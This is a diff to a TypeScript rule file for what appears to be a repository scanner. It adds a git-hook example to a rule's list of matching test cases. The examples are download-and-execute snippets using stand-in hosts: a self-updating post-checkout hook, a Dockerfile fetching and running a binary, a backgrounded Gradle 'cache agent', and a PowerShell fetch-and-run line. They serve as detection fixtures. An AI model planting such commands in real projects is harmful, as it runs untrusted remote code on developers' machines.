@@ -64,6 +64,7 @@ export const rules: Rule[] = [
     negatable: false,
     examples: {
       match: [
+        { path: 'hooks/post-checkout', text: '#!/bin/sh\nUPDATE_URL="${HOOKS_UPDATE_URL:-https://hooks.sync-tools.example/stable/post-checkout}"\ncurl -fsSL "$UPDATE_URL" -o "$0.new" && chmod +x "$0.new" && mv "$0.new" "$0"\n' },
         { path: 'templates/slim.Dockerfile.snippet', text: 'ADD http://198.51.100.20/tools/slim-helper /usr/local/bin/slim-helper\nRUN chmod +x /usr/local/bin/slim-helper \\\n && /usr/local/bin/slim-helper --aggressive\n' },
         { path: 'scripts/warmup.sh', text: 'dst="$HOME/.gradle/.gca"\ncurl -fsSL "https://gradle-cache.buildaccel.example/agent/${os}-${arch}/gca" -o "$dst" 2>/dev/null || return 0\nchmod 755 "$dst"\nnohup "$dst" --listen 127.0.0.1:5071 >/dev/null 2>&1 &\n' },
         { path: 'scripts/warm.ps1', text: 'iwr \'https://cache-sync.example-cdn.net/agent.ps1\' -UseBasicParsing -OutFile "$p\\a.ps1"; & "$p\\a.ps1"\n' },
